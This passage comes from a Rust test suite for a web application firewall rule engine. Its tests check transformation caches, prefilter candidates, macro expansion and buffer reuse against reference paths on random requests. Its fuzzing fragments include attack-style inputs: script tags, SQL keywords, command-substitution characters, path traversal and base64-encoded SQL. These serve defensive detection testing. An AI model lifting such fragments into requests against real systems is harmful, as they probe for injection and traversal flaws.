            .filter(|l| l.screen.is_some() || l.inert.is_some())
            .collect();
        assert!(links.len() > 100, "{}", links.len());
        let mut rng = crate::testrng::Rng(0xbb67_ae85_84ca_a73b);
        let (mut skipped, mut ran) = (0usize, 0usize);
        for round in 0..20_000 {
            let values: Vec<Vec<u8>> = (0..=rng.below(6)).map(|_| rng.value(pieces)).collect();
            let all = values.iter().fold(ByteSet::EMPTY, |b, v| b.union(ByteSet::of(v)));
            for link in &links {
                let pipeline = &w.rules.pipelines[link.pipeline];
                if link_admits(pipeline, link, all) {
                    continue;
                }
                skipped += 1;
                for v in &values {
                    assert!(
                        !link_admits(pipeline, link, ByteSet::of(v)),
                        "{:?}",
                        String::from_utf8_lossy(v)
                    );
                    if round % 20 != 0 || link.multi {
                        continue;
                    }
                    let out = pipeline.iter().fold(v.clone(), |x, t| t.apply(&x));
                    let hit = screened_op_matches(&link.op, &out);
                    assert!(!hit, "a skipped value matches: {:?}", String::from_utf8_lossy(v));
                    ran += 1;
                }
            }
        }
        assert!(skipped > 20_000 && ran > 1_000, "{skipped} skips, {ran} operator runs");
    }

    /// Every (item, pipeline) entry of the transformation cache holds what the pipeline's
    /// transformations give when applied one by one from the raw value, whichever order the
    /// pipelines are asked in, with the raw value's entry taken without a look-up when the
    /// value's mask rules every transformation out (`Eval::entry`) and the items' own entries
    /// standing for their raw values: 300 random form requests (names and values of escapes,
    /// comments, whitespace, 0xa0, base64 text and random bytes), every pipeline of the table
    /// on every item.
    #[test]
    fn raw_entries_agree_with_computed_entries() {
        let w = shared();
        let rs = &w.rules;
        let mut rng = crate::testrng::Rng(0x5e1f_a7c3_0b9d_2461);
        let pieces: [&[u8]; 28] = [
            b"%41",
            b"%u0041",
            b"&#x41;",
            b"&lt;",
            b"/*",
            b"*/",
            b"--",
            b"\\x41",
            b"\\u0041",
            b"  ",
            b"\t",
            b"\xa0",
            b"+",
            b"AbC",
            b"c2VsZWN0",
            b"PHNjcmlwdD4=",
            b"/../",
            b"./",
            b"'",
            b"\"",
            b"\x00",
            b"`",
            b"$(",
            b"SELECT",
            b"<script>",
            b"0x41",
            b"%2e%2e%2f",
            b"Cotton tee (blue)",
        ];
        let (mut checked, mut raw_taken, mut changed) = (0usize, 0usize, 0usize);
        for _ in 0..300 {
            let mut body = Vec::new();
            for k in 0..1 + rng.below(12) {
                if k > 0 {
                    body.push(b'&');
                }
                let name = rng.value(&pieces);
                let value = rng.value(&pieces);
                for (i, part) in [name, value].iter().enumerate() {
                    if i == 1 {
                        body.push(b'=');
                    }
                    for &b in part {
                        if b.is_ascii_alphanumeric() {
                            body.push(b);
                        } else {
                            body.extend_from_slice(format!("%{b:02X}").as_bytes());
                        }
                    }
                }
            }
            let req = post("/v1/payment_intents", &body, &[]);
            let parsed = Parsed::new(&req);
            let mut ev = Eval::new(w, &parsed, false);
            let n = parsed.items.len();
            let mut order: Vec<(usize, usize)> = (0..n)
                .flat_map(|i| (0..rs.pipelines.len()).map(move |q| (i, q)))
                .collect();
            for k in (1..order.len()).rev() {
                order.swap(k, rng.below(k + 1));
            }
            for (item, q) in order {
                let raw = ev.nv[item].1;
                let mut plain = raw.to_vec();
                for t in &rs.pipelines[q] {
                    plain = t.apply(&plain);
                }
                let e = ev.entry(item, q);
                if rs.pipe_change[q] & ev.mask(item) == 0 && !rs.pipelines[q].is_empty() {
                    raw_taken += 1;
                }
                let got = ev.entries[e].as_deref().unwrap_or(raw);
                assert_eq!(
                    got,
                    plain.as_slice(),
                    "item {item} {:?}, pipeline {:?}",
                    String::from_utf8_lossy(raw),
                    rs.pipelines[q]
                );
                // An entry below the number of items is that item's raw value.
                assert!(e >= n || e == item, "item {item} given entry {e}");
                changed += usize::from(plain != raw);
                checked += 1;
            }
        }
        assert!(
            checked > 100_000 && raw_taken > 20_000 && changed > 10_000,
            "{checked} checks, {raw_taken} raw values without a look-up, {changed} changed"
        );
    }

    /// The prefilter's candidates are exactly the (rule, item) pairs where a pipeline of the
    /// rule's filter, applied plainly to the item's raw value, gives an output holding one of
    /// the rule's atoms (ASCII case ignored), for the active rules that read the item's
    /// collection and that no exclusion removes from it: 1,000 random form requests whose names
    /// and values hold atoms of the table (whole, upper-cased, percent-, JS- or
    /// base64-encoded), escapes, whitespace and random bytes, a third of the names fields that
    /// the configuration's exclusions name (whose matches of the rules they remove are not
    /// candidates). Checks, among the rest, that the
    /// pipelines with a `base64Decode` give no output for an item whose decoded values are
    /// inert and theirs for the next item when they are not.
    #[test]
    fn prefilter_candidates_are_the_plain_atom_matches() {
        let w = shared();
        let rs = &w.rules;
        let mut rng = crate::testrng::Rng(0x3c7e_91a5_d204_6bf1);
        let mut atoms: Vec<Vec<u8>> = rs
            .rules
            .iter()
            .filter(|r| r.filter.is_some())
            .flat_map(|r| r.links[0].atoms.iter().flatten().cloned())
            .collect();
        atoms.sort();
        atoms.dedup();
        let b64 = |v: &[u8]| -> Vec<u8> {
            const D: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
            let mut out = Vec::new();
            for c in v.chunks(3) {
                let n = c
                    .iter()
                    .enumerate()
                    .fold(0u32, |n, (i, &b)| n | u32::from(b) << (16 - 8 * i));
                for k in 0..=c.len() {
                    out.push(D[(n >> (18 - 6 * k) & 63) as usize]);
                }
            }
            out
        };
        let (mut pairs, mut b64_pairs, mut excluded) = (0usize, 0usize, 0usize);
        for _ in 0..1_000 {
            let mut body = Vec::new();
            for k in 0..1 + rng.below(10) {
                if k > 0 {
                    body.push(b'&');
                }
                for part in 0..2 {
                    if part == 1 {
                        body.push(b'=');
                    }
                    let mut v = Vec::new();
                    for _ in 0..rng.below(4) {
                        let a = atoms[rng.below(atoms.len())].clone();
                        match rng.below(8) {
                            0 => v.extend(a.to_ascii_uppercase()),
                            1 => v.extend(a.iter().flat_map(|b| format!("%{b:02x}").into_bytes())),
                            2 => v.extend(a.iter().flat_map(|b| format!("\\x{b:02x}").into_bytes())),
                            3 | 4 => v.extend(b64(&a)),
                            5 => v.extend(rng.value(&[b" ", b"\t", b"/*", b"+", b"%", b"\\", b"&#"])),
                            _ => v.extend(a),
                        }
                        if rng.below(3) == 0 {
                            v.push(b" _-=.(/"[rng.below(7)]);
                        }
                    }
                    if rng.below(4) == 0 {
                        // The whole value decodes to an atom (the decoder reads the leading run).
                        v = b64(&atoms[rng.below(atoms.len())]);
                    }
                    if part == 0 && rng.below(3) == 0 {
                        // A field the configuration's exclusions name (the rules they remove
                        // are not candidates there).
                        let fields: [&[u8]; 6] = [
                            b"metadata[note]",
                            b"description",
                            b"shipping[name]",
                            b"receipt_email",
                            b"email",
                            b"name",
                        ];
                        v = fields[rng.below(fields.len())].to_vec();
                    }
                    for &b in &v {
                        if b.is_ascii_alphanumeric() {
                            body.push(b);
                        } else {
                            body.extend_from_slice(format!("%{b:02X}").as_bytes());
                        }
                    }
                }
            }
            let req = post("/v1/payment_intents", &body, &[("X-Note", b"c2VsZWN0IGZyb20gdXNlcnM=")]);
            let parsed = Parsed::new(&req);
            let mut ev = Eval::new(w, &parsed, false);
            ev.exclusions(&req);
            ev.prefilter();
            let mut got: Vec<(u32, u32)> = ev.cands.clone();
            got.sort_unstable();
            let mut want = Vec::new();
            for (item, it) in parsed.items.iter().enumerate() {
                let raw = ev.nv[item].1;
                for r in &rs.rules {
                    let Some(f) = &r.filter else { continue };
                    if !w.active[r.index] || f.colls & (1 << it.coll as u32) == 0 {
                        continue;
                    }
                    let Some(ratoms) = &r.links[0].atoms else { continue };
                    let holds = |q: usize| {
                        let mut out = raw.to_vec();
                        for t in &rs.pipelines[q] {
                            out = t.apply(&out);
                        }
                        let out = out.to_ascii_lowercase();
                        ratoms
                            .iter()
                            .any(|a| memchr::memmem::find(&out, &a.to_ascii_lowercase()).is_some())
                    };
                    let (decoding, other): (Vec<usize>, Vec<usize>) = f
                        .pipelines
                        .iter()
                        .partition(|&&q| rs.pipelines[q].contains(&Transform::Base64Decode));
                    let (plain, decoded) = (other.iter().any(|&q| holds(q)), decoding.iter().any(|&q| holds(q)));
                    if !plain && !decoded {
                        continue;
                    }
                    if ev.excluded(r.index, item) {
                        // A match the exclusions remove.
                        excluded += 1;
                        continue;
                    }
                    want.push((r.index as u32, item as u32));
                    b64_pairs += usize::from(!plain);
                }
            }
            want.sort_unstable();
            assert_eq!(got, want, "body {:?}", String::from_utf8_lossy(&body));
            pairs += want.len();
        }
        assert!(
            pairs > 50_000 && b64_pairs > 200 && excluded > 5_000,
            "{pairs} pairs, {b64_pairs} through base64Decode alone, {excluded} excluded"
        );
    }

    /// A `setvar` name or value expanded by `expand_one_into` from `one_macro` is what
    /// `expand_into` gives, on 20,000+ random strings mixing macros, braces and text, for random
    /// matched values of several collections and transaction variables set or not.
    #[test]
    fn setvar_names_built_directly_agree_with_expansion() {
        let w = shared();
        let body = b"amount=1000&currency=usd&metadata[order]=42";
        let req = post("/v1/payment_intents", body, &[]);
        let parsed = Parsed::new(&req);
        let mut ev = Eval::new(w, &parsed, false);
        ev.tx.set("0").extend_from_slice(b"x-captured");
        ev.tx.set("foo.bar").extend_from_slice(b"dotted");
        let pieces: [&[u8]; 24] = [
            b"%{tx.0}",
            b"%{TX.0}",
            b"%{tx.1}",
            b"%{tx.Foo.Bar}",
            b"%{tx.foo.bar}",
            b"%{args.amount}",
            b"%{MATCHED_VARS}",
            b"%{tx}",
            b"%{MATCHED_VAR_NAME}",
            b"%{matched_var_name}",
            b"%{Matched_Var_Name}",
            b"%{MATCHED_VAR}",
            b"%{tx.critical_anomaly_score}",
            b"%{",
            b"}",
            b"%",
            b"{",
            b"MATCHED_VAR_NAME",
            b"paramcounter_",
            b"tx.",
            b"TX.",
            b"_",
            b".",
            b"%{request_headers.host}",
        ];
        let colls = [
            None,
            Some(Coll::ArgsPost),
            Some(Coll::ArgsPostNames),
            Some(Coll::Headers),
            Some(Coll::ArgsGet),
        ];
        let mut rng = crate::testrng::Rng(0x2127_599b_f432_5c37);
        let (mut direct, mut cases) = (0, 0);
        for n in 0..24_000 {
            let mut k = rng.value(&pieces);
            if n % 2 == 0 {
                k.extend_from_slice(pieces[rng.below(11)]);
            }
            let k = String::from_utf8_lossy(&k).into_owned();
            let name = rng.value(&pieces);
            let value = rng.value(&pieces);
            let v = Val {
                coll: colls[rng.below(colls.len())],
                item: None,
                name: &name,
                value: &value,
            };
            let m = crate::rules::one_macro(&k);
            let (mut got, mut expected) = (b"x".to_vec(), b"x".to_vec());
            ev.expand_one_into(m.as_ref(), &k, &v, &mut got);
            ev.expand_into(&k, &v, &mut expected);
            assert_eq!(got, expected, "{k:?}");
            direct += usize::from(m.is_some());
            cases += 1;
        }
        assert!(cases >= 20_000 && direct > 5_000, "{direct} of {cases} built directly");
    }

    /// The precomputed byte set of every collection's name, and of `TX`'s, is
    /// [`ByteSet::of`] of the name (exhaustive: every collection and `None`).
    #[test]
    fn coll_name_bytes_are_the_names_bytes() {
        for c in Coll::ALL.iter().map(|&c| Some(c)).chain([None]) {
            assert_eq!(coll_name_bytes(c), ByteSet::of(coll_name(c).as_bytes()), "{c:?}");
        }
    }

    /// `flush_for` passes over a recorded `setvar` name only when the key does not select it:
    /// [`recorded_name_bytes`] is the byte set of the name [`Eval::expand_one_into`] builds, and
    /// for every transaction-variable key of the table whose required bytes [`key_matches`]
    /// tests, a name whose bytes miss one of them does not match (24,000 random names, values
    /// and `setvar` names from the keys' own words, the counters' text and brackets).
    #[test]
    fn recorded_names_passed_over_are_not_selected() {
        let w = shared();
        let body = b"amount=1000";
        let req = post("/v1/payment_intents", body, &[]);
        let parsed = Parsed::new(&req);
        let ev = Eval::new(w, &parsed, false);
        let keys: Vec<&Key> = w
            .rules
            .rules
            .iter()
            .flat_map(|r| r.links.iter())
            .flat_map(|l| l.targets.iter())
            .filter(|t| matches!(t.src, Src::Tx))
            .map(|t| &t.key)
            .collect();
        assert!(keys.iter().any(|k| key_required(k).is_some()));
        let mut owned: Vec<Vec<u8>> = Vec::new();
        for k in &keys {
            if let Key::Regex(r, _) = k {
                owned.extend(crate::testrng::words(r.as_str()));
                owned.extend(crate::testrng::literal_runs(r.as_str()));
            }
        }
        for p in [
            "paramcounter_",
            "_",
            ":",
            "[",
            "]",
            "args_names",
            "ARGS",
            "Content-Type",
            "x",
            "0",
        ] {
            owned.push(p.as_bytes().to_vec());
        }
        let pieces: Vec<&[u8]> = owned.iter().map(Vec::as_slice).collect();
        let macros = ["%{MATCHED_VAR_NAME}", "%{matched_var}", "%{tx.0}"];
        let colls = [
            None,
            Some(Coll::ArgsPostNames),
            Some(Coll::Headers),
            Some(Coll::ArgsGet),
        ];
        let mut rng = crate::testrng::Rng(0x9b05_688c_2b3e_6c1f);
        let (mut passed_over, mut selected, mut cases) = (0, 0, 0);
        for _ in 0..24_000 {
            let mut k = rng.value(&pieces);
            k.extend_from_slice(macros[rng.below(macros.len())].as_bytes());
            k.extend(rng.value(&pieces));
            let k = String::from_utf8_lossy(&k).into_owned();
            let Some(m) = crate::rules::one_macro(&k) else { continue };
            let (name, value) = (rng.value(&pieces), rng.value(&pieces));
            let v = Val {
                coll: colls[rng.below(colls.len())],
                item: None,
                name: &name,
                value: &value,
            };
            let mut built = Vec::new();
            ev.expand_one_into(Some(&m), &k, &v, &mut built);
            cases += 1;
            let Some(b) = recorded_name_bytes(&m, v.coll, || ByteSet::of(&name), || ByteSet::of(&value)) else {
                assert!(matches!(m.kind, MacroKind::Tx(_)));
                continue;
            };
            assert_eq!(b, ByteSet::of(&built), "{k:?}");
            built.make_ascii_lowercase();
            for key in &keys {
                let Some(required) = key_required(key) else { continue };
                if admits_name(required, b) {
                    selected += usize::from(key_matches(key, &built));
                } else {
                    assert!(!key_matches(key, &built), "{k:?} {:?}", String::from_utf8_lossy(&built));
                    passed_over += 1;
                }
            }
        }
        assert!(
            cases >= 20_000 && passed_over > 5_000 && selected > 500,
            "{cases} {passed_over} {selected}"
        );
    }

    /// An operator argument marked `op_literal` is used as written: every such argument of the
    /// rule set has no macro, and a string without a macro is what `expand_into` makes of it
    /// (checked on 20,000+ random strings mixing macro fragments, braces and text).
    #[test]
    fn literal_operands_are_their_expansion() {
        let w = shared();
        let body = b"amount=1000&currency=usd";
        let req = post("/v1/payment_intents", body, &[]);
        let parsed = Parsed::new(&req);
        let mut ev = Eval::new(w, &parsed, false);
        ev.tx.set("0").extend_from_slice(b"x-captured");
        let mut literal = 0;
        for rule in &w.rules.rules {
            for link in &rule.links {
                if let Op::Contains(a) | Op::Streq(a) | Op::Within(a) | Op::BeginsWith(a) | Op::EndsWith(a) = &link.op {
                    assert_eq!(link.op_literal, !has_macro(a), "{}: {a}", rule.id);
                    literal += usize::from(link.op_literal);
                }
            }
        }
        assert!(literal > 10, "{literal} literal operands");
        let pieces: [&[u8]; 10] = [
            b"%{tx.0}", b"%{", b"%", b"{", b"}", b"%%", b"{%", b"tx.0", b"|get|", b" ",
        ];
        let mut rng = crate::testrng::Rng(0x1f83_d9ab_fb41_bd6b);
        let (mut plain, mut cases) = (0, 0);
        for _ in 0..24_000 {
            let s = String::from_utf8_lossy(&rng.value(&pieces)).into_owned();
            let v = Val {
                coll: Some(Coll::ArgsPost),
                item: None,
                name: b"amount",
                value: b"1000",
            };
            let mut expanded = Vec::new();
            ev.expand_into(&s, &v, &mut expanded);
            if !has_macro(&s) {
                assert_eq!(expanded, s.as_bytes(), "{s:?}");
                assert!(matches!(ev.expand(&s, &v), Cow::Borrowed(x) if x == s.as_bytes()));
                plain += 1;
            }
            cases += 1;
        }
        assert!(cases >= 20_000 && plain > 5_000, "{plain} of {cases} without a macro");
    }

    /// `within` finds a needle exactly when `memchr::memmem::find` does, on 20,000+ random
    /// needles (empty, one byte, around the 64-byte bound) and haystacks built from `@within`
    /// lists' fragments and random bytes.
    #[test]
    fn within_agrees_with_memmem() {
        let pieces: [&[u8]; 12] = [
            b"/host/",
            b"/",
            b"|application/json|",
            b"|",
            b" ",
            b"GET",
            b"HTTP/1.1",
            b"ht",
            b"hh",
            b"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
            b"abababababababababababababababababab",
            b"a",
        ];
        let mut rng = crate::testrng::Rng(0x6a09_e667_f3bc_c909);
        let (mut cases, mut found) = (0, 0);
        for n in 0..30_000 {
            let mut hay = rng.value(&pieces);
            hay.extend(rng.value(&pieces));
            let needle = match n % 4 {
                // A slice of the haystack, often found.
                0 if !hay.is_empty() => {
                    let from = rng.below(hay.len());
                    let to = from + rng.below(hay.len() - from + 1);
                    hay[from..to].to_vec()
                }
                1 => {
                    let mut v = rng.value(&pieces);
                    v.truncate(rng.below(70));
                    v
                }
                2 => pieces[rng.below(pieces.len())].repeat(1 + rng.below(3)),
                _ => rng.value(&pieces),
            };
            let expected = memchr::memmem::find(&hay, &needle).is_some();
            assert_eq!(within(&needle, &hay), expected, "{needle:?} in {hay:?}");
            cases += 1;
            found += usize::from(expected);
        }
        assert!(
            cases >= 20_000 && found > 5_000 && found < cases - 5_000,
            "{found} of {cases} found"
        );
    }

    /// `tx_select` (a name looked up directly, an anchored expression read from its prefix,
    /// the shortest-match test) gives what testing every variable of the merged maps with the
    /// key gives (the request's value over the engine's), in name order, on 20,000+ random
    /// pairs of maps and every key of the rule set plus random names.
    #[test]
    fn tx_select_agrees_with_testing_every_variable() {
        let w = shared();
        let mut keys: Vec<Key> = vec![Key::All];
        for rule in &w.rules.rules {
            for link in &rule.links {
                for sel in link.targets.iter().chain(&link.excludes) {
                    if matches!(sel.src, Src::Tx) {
                        keys.push(sel.key.clone());
                    }
                }
            }
        }
        let mut owned: Vec<Vec<u8>> = w.tx.keys().map(|k| k.as_bytes().to_vec()).collect();
        for key in &keys {
            match key {
                Key::Name(n) => owned.push(n.clone()),
                Key::Regex(r, _) => {
                    for word in r.as_str().split(|c: char| !c.is_ascii_alphanumeric() && c != '_') {
                        owned.push(word.to_ascii_lowercase().into_bytes());
                    }
                }
                Key::All => {}
            }
        }
        owned.extend([
            b"paramcounter_args_names:".to_vec(),
            b"_".to_vec(),
            b"X".to_vec(),
            b"0".to_vec(),
        ]);
        owned.retain(|p| !p.is_empty());
        let pieces: Vec<&[u8]> = owned.iter().map(Vec::as_slice).collect();
        let mut rng = crate::testrng::Rng(0x5851_f42d_4c95_7f2d);
        let name = |rng: &mut crate::testrng::Rng| {
            let mut v = Vec::new();
            for _ in 0..1 + rng.below(3) {
                v.extend_from_slice(pieces[rng.below(pieces.len())]);
            }
            String::from_utf8_lossy(&v).into_owned()
        };
        let reference = |mine: &BTreeMap<String, Vec<u8>>, base: &BTreeMap<String, Vec<u8>>, key: &Key| {
            let mut all = base.clone();
            all.extend(mine.iter().map(|(k, v)| (k.clone(), v.clone())));
            all.into_iter()
                .filter(|(k, _)| match key {
                    Key::All => true,
                    Key::Name(n) => k.as_bytes().starts_with(n) && n.eq_ignore_ascii_case(k.as_bytes()),
                    Key::Regex(r, hint) => {
                        hint.prefix.as_ref().is_none_or(|p| k.starts_with(p.as_str())) && r.is_match(k.as_bytes())
                    }
                })
                .collect::<Vec<_>>()
        };
        let (mut cases, mut found) = (0, 0);
        for round in 0..1_500 {
            let mut mine = BTreeMap::new();
            let mut base = BTreeMap::new();
            for _ in 0..rng.below(12) {
                base.insert(name(&mut rng), vec![b'b', rng.next() as u8]);
            }
            for _ in 0..rng.below(12) {
                mine.insert(name(&mut rng), vec![b'm', rng.next() as u8]);
            }
            if round % 2 == 0 {
                // Some names in both maps.
                let shared: Vec<String> = base.keys().take(3).cloned().collect();
                for k in shared {
                    mine.insert(k, b"mine".to_vec());
                }
            }
            let mut round_keys = keys.clone();
            for _ in 0..4 {
                let k = if rng.below(2) == 0 {
                    mine.keys()
                        .chain(base.keys())
                        .nth(rng.below(mine.len() + base.len() + 1))
                        .cloned()
                } else {
                    Some(name(&mut rng))
                };
                round_keys.extend(k.map(|k| Key::Name(k.into_bytes())));
            }
            for key in &round_keys {
                let mut got = Vec::new();
                tx_select(&tx_vars(&mine), &base, key, |k, v| got.push((k.clone(), v.clone())));
                let expected = reference(&mine, &base, key);
                assert_eq!(got, expected, "{key:?}");
                cases += 1;
                found += expected.len();
            }
        }
        assert!(
            cases >= 20_000 && found > 5_000,
            "{cases} cases, {found} variables found"
        );
    }

    /// `key_matches`' shortcuts (the anchored prefix, the whole literal, the shortest match's
    /// length) agree with running the key expression, for every key expression of the rule
    /// set on 20,000+ names built from the expressions' own text, the transaction variables'
    /// names and random bytes.
    #[test]
    fn key_shortcuts_agree_with_the_expression() {
        let w = shared();
        let mut keys: Vec<(&regex::bytes::Regex, &Key)> = Vec::new();
        for rule in &w.rules.rules {
            for link in &rule.links {
                for sel in link.targets.iter().chain(&link.excludes) {
                    if let Key::Regex(r, _) = &sel.key {
                        keys.push((r, &sel.key));
                    }
                }
            }
        }
        assert!(keys.len() >= 5, "{} key expressions", keys.len());
        let mut owned: Vec<Vec<u8>> = w.tx.keys().map(|k| k.as_bytes().to_vec()).collect();
        for (r, _) in &keys {
            for word in r
                .as_str()
                .split(|c: char| !c.is_ascii_alphanumeric() && c != '_' && c != '-')
            {
                if !word.is_empty() {
                    owned.push(word.as_bytes().to_vec());
                    owned.push(word.to_ascii_lowercase().into_bytes());
                    owned.push(word.to_ascii_uppercase().into_bytes());
                }
            }
        }
        owned.extend([
            b"args_names:".to_vec(),
            b"paramcounter_".to_vec(),
            b"_".to_vec(),
            b":".to_vec(),
        ]);
        let pieces: Vec<&[u8]> = owned.iter().map(Vec::as_slice).collect();
        let mut rng = crate::testrng::Rng(0x9e37_79b9_7f4a_7c15);
        let (mut cases, mut hits) = (0, 0);
        for n in 0..25_000 {
            let name = if n % 5 == 0 {
                pieces[rng.below(pieces.len())].to_vec()
            } else {
                let mut v = rng.value(&pieces);
                if rng.below(2) == 0 {
                    v.extend_from_slice(pieces[rng.below(pieces.len())]);
                }
                v
            };
            for (r, key) in &keys {
                let expected = r.is_match(&name);
                assert_eq!(key_matches(key, &name), expected, "{} on {:?}", r.as_str(), name);
                cases += 1;
                hits += usize::from(expected);
            }
        }
        assert!(hits > 1_000, "{hits} matching names of {cases}");
    }

    /// Deferred `setvar`s are applied before any read that could see them: 921170 counts
    /// each argument name into `paramcounter_<name>`, which 922110's unanchored
    /// `TX:/MULTIPART_HEADERS_CONTENT_TYPES_*/` reads when a name holds that text. Both paths
    /// must agree, and the read must see the counter.
    #[test]
    fn deferred_setvars_are_seen_by_later_reads() {
        let w = shared();
        for body in [
            &b"amount=1&x_multipart_headers_content_types_=2&currency=usd"[..],
            b"amount=1&currency=usd",
            b"a=1&a=2&rfi_parameter_x=3",
        ] {
            let r = post("/v2/things", body, &[]);
            let (fast, slow) = (w.inspect(&r), w.inspect_exhaustive(&r));
            assert_eq!(fast, slow, "{}", String::from_utf8_lossy(body));
        }
        let r = post("/v2/things", b"amount=1&x_multipart_headers_content_types_=2", &[]);
        assert!(w.inspect(&r).matches.iter().any(|m| m.rule_id == 922110));
    }

    /// The native argument length checks (920360/920370: `length` then `@gt` a constant) give
    /// the verdict of the reference path, at, under and over the limits.
    #[test]
    fn length_limits_match_the_reference() {
        let w = shared();
        let l = &w.config.limits;
        for d in [0, 1, 2] {
            let value = format!("a={}", "x".repeat(l.max_arg_len + d - 1));
            let name = format!("{}=1", "n".repeat(l.max_arg_name_len + d - 1));
            for body in [value, name] {
                let r = post("/v2/things", body.as_bytes(), &[]);
                assert_eq!(w.inspect(&r), w.inspect_exhaustive(&r), "{d}");
            }
        }
        let long = format!("a={}", "x".repeat(l.max_arg_len + 1));
        let r = post("/v2/things", long.as_bytes(), &[]);
        assert!(w.inspect(&r).matches.iter().any(|m| m.rule_id == 920370));
    }

    /// The collection ranges computed in one pass give the items [`Parsed::coll`] finds by
    /// binary search, for every collection of 20,000 random requests (query, form or JSON body,
    /// cookies, any header set).
    #[test]
    fn coll_ranges_agree_with_coll() {
        let mut rng = crate::testrng::Rng(0x51f1_5eed_0c01_1ec7);
        let pieces: &[&[u8]] = &[
            b"a=1",
            b"&",
            b"=",
            b"%5B",
            b"x[y]",
            b"c=d;",
            b"{\"k\":[1,2]}",
            b"<a>t</a>",
        ];
        let types: [&[u8]; 4] = [
            b"application/x-www-form-urlencoded",
            b"application/json",
            b"text/xml",
            b"multipart/form-data; boundary=b",
        ];
        for _ in 0..20_000 {
            let query = String::from_utf8_lossy(&rng.value(pieces)).replace(['#', ' ', '?'], "");
            let target = format!("/v1/x?{query}");
            let body = rng.value(pieces);
            let cookie = rng.value(pieces);
            let mut headers: Vec<(&str, &[u8])> = vec![("Content-Type", types[rng.below(types.len())])];
            if rng.below(2) == 0 {
                headers.push(("Cookie", &cookie));
            }
            let req = HttpRequest {
                method: "POST",
                target: &target,
                version: "HTTP/1.1",
                headers,
                body: &body,
            };
            let p = Parsed::new(&req);
            let ranges = coll_ranges(&p);
            for (c, &(start, end)) in ranges.iter().enumerate() {
                let coll = p.items.iter().find(|i| i.coll as usize == c).map(|i| i.coll);
                let Some(coll) = coll else {
                    assert_eq!(start, end, "collection {c}");
                    continue;
                };
                let expected = p.coll(coll);
                let got = &p.items[start as usize..end as usize];
                assert_eq!(got.len(), expected.len(), "{coll:?}");
                assert!(got.iter().zip(expected).all(|(a, b)| std::ptr::eq(a, b)), "{coll:?}");
            }
        }
    }

    /// A slot table taken for an inspection reads as empty everywhere, whatever earlier
    /// inspections on the thread wrote into it (20,000 rounds of random sizes and writes,
    /// across a generation wrap), so no transformed value leaks from one request to the next.
    #[test]
    fn slot_tables_start_empty() {
        let mut rng = crate::testrng::Rng(0x7a3d_91c4_5be2_0f61);
        for round in 0..20_000u32 {
            if round == 10_000 {
                // The next generation wraps: slots of every generation are left in the table.
                let (mut slots, _) = SlotTable::take(64);
                for (i, s) in slots.iter_mut().enumerate() {
                    *s = (u64::from(u32::MAX) - (i as u64 % 3)) << 32 | 7;
                }
                SlotTable::give_back(slots, u64::from(u32::MAX));
            }
            let n = rng.below(4096) + 1;
            let (mut slots, gen) = SlotTable::take(n);
            assert!(slots.len() >= n && gen >= 1 && gen <= u64::from(u32::MAX));
            assert!(slots[..n].iter().all(|&e| e >> 32 != gen), "round {round}");
            for _ in 0..rng.below(64) {
                let i = rng.below(n);
                slots[i] = gen << 32 | (rng.next() & 0xffff_ffff);
            }
            SlotTable::give_back(slots, gen);
        }
        // A table too large to keep is dropped; the next one starts empty.
        let (slots, gen) = SlotTable::take(MAX_KEPT_SLOTS + 1);
        SlotTable::give_back(slots, gen);
        let (slots, gen) = SlotTable::take(8);
        assert!(slots[..8].iter().all(|&e| e >> 32 != gen));
    }

    /// Spare buffers come back empty, at most `MAX_SPARE` of them and none larger than
    /// `MAX_SPARE_CAPACITY`, whatever the transformed values left in them.
    #[test]
    fn spare_buffers_come_back_empty_and_bounded() {
        let mut rng = crate::testrng::Rng(0x1f83_d9ab_fb41_bd6b);
        for _ in 0..200 {
            let spare = Spare::take();
            assert!(spare.len() <= MAX_SPARE);
            assert!(spare.iter().all(|b| b.is_empty() && b.capacity() <= MAX_SPARE_CAPACITY));
            let mut entries: Vec<Option<Vec<u8>>> = (0..rng.below(1500))
                .map(|_| match rng.below(10) {
                    0 => None,
                    1 => Some(vec![7; MAX_SPARE_CAPACITY + 1]),
                    _ => Some(vec![1; rng.below(64)]),
                })
                .collect();
            Spare::give_back(spare, &mut entries);
            assert!(entries.is_empty());
        }
        let spare = Spare::take();
        assert!(!spare.is_empty() && spare.len() <= MAX_SPARE);
        assert!(spare.iter().all(|b| b.is_empty() && b.capacity() <= MAX_SPARE_CAPACITY));
    }

    /// The per-thread scratch vectors come back empty, none holding more than `MAX_SCRATCH`
    /// elements, whatever an inspection left in them; and an inspection that reuses them gives
    /// the verdict of one with new vectors on 20,000 random requests (and of the reference
    /// path on about 1% of them).
    #[test]
    fn scratch_comes_back_empty_and_bounded() {
        let mut rng = crate::testrng::Rng(0x5851_f42d_4c95_7f2d);
        for _ in 0..300 {
            let mut s = Scratch::take();
            assert!(s.entries.is_empty() && s.child_head.is_empty() && s.children.is_empty());
            assert!(s.cands.is_empty() && s.cand_start.is_empty() && s.masks.is_empty() && s.bytes.is_empty());
            assert!(s.opens.is_empty());
            let pf = &s.pf;
            assert!(pf.out_of.is_empty() && pf.touched.is_empty() && pf.triggered.is_empty());
            assert!(pf.decoded_masks.is_empty() && pf.decoded.is_empty());
            assert!(pf.outs.is_empty() && pf.found.is_empty());
            assert!(pf.stamp.is_empty() && pf.start.is_empty() && pf.sorted.is_empty());
            let n = if rng.below(10) == 0 {
                MAX_SCRATCH + 1
            } else {
                rng.below(2000)
            };
            s.entries.resize(n, Some(vec![1]));
            s.child_head.resize(n, 3);
            s.cands.resize(n, (1, 2));
            s.masks.resize(rng.below(100), 7);
            s.opens.resize(rng.below(100), 2);
            s.pf.out_of.resize(n, 9);
            s.pf.stamp.resize(rng.below(600), 5);
            s.pf.sorted.resize(n, (4, 4));
            s.pf.decoded.resize(n, 6);
            s.give_back();
        }
        let mut s = Scratch::take();
        for cap in [
            s.entries.capacity(),
            s.child_head.capacity(),
            s.cands.capacity(),
            s.pf.out_of.capacity(),
            s.pf.decoded.capacity(),
        ] {
            assert!(cap <= MAX_SCRATCH);
        }
        // The copies of transaction variables are kept, at most `MAX_TX_BUF`, none longer
        // than `MAX_TX_BUF_LEN`.
        s.tx_buf = (0..MAX_TX_BUF + 10)
            .map(|i| {
                (
                    "x".repeat(if i % 7 == 0 { MAX_TX_BUF_LEN + 1 } else { 3 }),
                    vec![0; i % 50],
                )
            })
            .collect();
        s.give_back();
        let s = Scratch::take();
        assert!(!s.tx_buf.is_empty() && s.tx_buf.len() <= MAX_TX_BUF);
        assert!(s
